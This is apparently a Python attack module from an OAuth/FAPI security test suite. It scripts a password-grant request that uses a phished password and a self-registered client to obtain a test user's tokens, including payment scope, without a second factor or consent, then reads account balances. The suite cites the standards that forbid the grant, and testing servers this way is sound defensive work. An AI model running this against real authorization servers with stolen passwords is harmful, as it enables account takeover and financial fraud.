"""ropc-mfa-bypass: the password grant signs alice in on her (phished) password alone.

The CS attacker has alice's password and a client of its own registered for the
password grant (registration is open). One token request, no login page, no second
factor, no consent screen. BCP §2.4: the grant "MUST NOT be used"; FAPI2 §5.3.2.1
makes the AS reject it.
"""

from __future__ import annotations

from attacker import login_support as ls
from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack

PHISHED = ("alice", "wonderland")


def run(ctx: AttackContext) -> None:
    username, password = PHISHED
    signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
    form = {"grant_type": "password", "username": username, "password": password,
            "scope": "openid accounts:read transactions:read payments:write",
            **ls.ropc_client_auth(ctx)}
    response = ts.post_token(ctx, form, signer=signer,
                             what=f"POST /token grant_type=password username={username} with "
                                  "its own client")
    tokens = ts.tokens_or_fail(ctx, response, "the AS refused the password grant")
    balances = ts.read_balances(ctx, tokens, signer=signer)
    ctx.succeeded(f"got alice's tokens from her password alone and read {len(balances)} "
                  "balances", balances)


ATTACK = Attack(
    id="ropc-mfa-bypass", attacker="CS", legs=("own",), victim="none",
    title="Password grant skips second factor and consent",
    blocked_by=("ropc_disabled", "mfa_required"),
    premise="Holds alice's phished password and its own client registered for the password "
            "grant; not her second factor.",
    goal="alice's tokens without second factor or consent", run=run,
    refs=("BCP §2.4", "FAPI2 §5.3.2.1", "RTS Art. 4"),
)
